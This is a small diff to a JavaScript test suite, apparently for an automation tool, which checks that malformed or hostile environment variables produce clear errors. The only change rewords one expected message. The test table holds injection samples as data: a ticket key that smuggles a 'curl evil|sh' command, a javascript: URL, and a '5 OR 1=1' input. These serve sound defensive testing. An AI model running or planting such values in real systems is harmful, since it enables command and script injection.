@@ -133,7 +133,7 @@ describe('hostile or broken variables give clear errors', () => {
     ['a ticket key with shell characters', { DROID_TICKET_KEY: 'X-1;curl evil|sh' }, /DROID_TICKET_KEY .* is not a ticket key/],
     ['an actor with spaces', { DROID_ACTOR: 'alice bob' }, /is not a GitLab username/],
     ['a javascript: ticket URL', { DROID_TICKET_URL: 'javascript:alert(1)' }, /DROID_TICKET_URL must be an http\(s\) URL/],
-    ['a ticket URL with credentials', { DROID_TICKET_URL: 'https://u:p@jira.example.com/x' }, /must not carry credentials/],
+    ['a ticket URL with credentials', { DROID_TICKET_URL: 'https://u:p@jira.example.com/x' }, /must not contain credentials/],
     ['an issue number that is not a number', { DROID_ISSUE_IID: '5 OR 1=1' }, /DROID_ISSUE_IID .* is not a positive number/],
     ['no ticket at all', { DROID_TICKET_KEY: undefined }, /needs a ticket/],
     ['no actor at all', { DROID_ACTOR: undefined, GITLAB_USER_LOGIN: undefined }, /neither DROID_ACTOR nor GITLAB_USER_LOGIN/],
